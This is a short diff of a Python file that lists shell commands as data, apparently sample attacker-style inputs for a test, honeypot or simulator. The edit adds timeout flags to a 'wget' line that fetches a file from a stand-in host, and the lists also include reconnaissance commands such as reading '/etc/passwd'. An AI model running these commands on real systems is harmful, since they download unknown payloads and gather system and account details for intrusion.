@@ -14,7 +14,7 @@ from typing import NamedTuple
 
 PLAIN = [
     "ls -la", "id", "uname -a", "cat /etc/passwd", "ps aux", "df -h", "w", "ifconfig", "cd /tmp", "history", "free -m",
-    "wget http://192.0.2.5/k",
+    "wget -T 2 -t 1 http://192.0.2.5/k",
 ]  # fmt: skip
 HEADED = [
     'echo "=== users ===" && cat /etc/passwd | head -20',
